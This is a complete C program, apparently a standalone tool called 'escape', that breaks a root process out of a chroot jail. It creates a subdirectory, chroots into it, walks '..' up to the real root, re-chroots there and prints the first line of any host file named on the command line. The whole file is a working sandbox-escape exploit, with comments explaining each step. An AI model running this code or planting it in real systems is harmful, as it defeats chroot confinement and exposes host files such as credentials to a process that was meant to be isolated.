/* escape: the way out of a chroot, in four calls. Usage: escape FILE, which is a
 * path from the machine's real root. */
#include <err.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char text[100] = "";

	if (argc != 2)
		errx(1, "usage: escape FILE");
	mkdir("x", 0700);
	/* The root goes down, into x; the current directory stays where it is. */
	if (chroot("x") != 0)
		err(1, "chroot");
	/* So nothing stops .. any more, until the real root is reached. */
	for (int i = 0; i < 100; i++)
		if (chdir("..") != 0)
			err(1, "chdir");
	if (chroot(".") != 0)
		err(1, "chroot");
	FILE *file = fopen(argv[1], "r");
	if (!file)
		err(1, "%s", argv[1]);
	fputs(fgets(text, sizeof(text), file) ? text : "", stdout);
	return 0;
}
